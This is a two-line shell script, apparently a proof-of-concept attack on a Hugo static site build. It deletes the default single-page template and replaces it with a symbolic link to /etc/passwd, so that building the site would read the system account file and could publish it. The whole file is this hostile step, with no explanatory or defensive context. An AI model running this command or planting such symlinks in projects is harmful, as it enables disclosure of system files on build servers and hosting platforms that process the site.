#!/bin/sh
rm layouts/_default/single.html && ln -s /etc/passwd layouts/_default/single.html
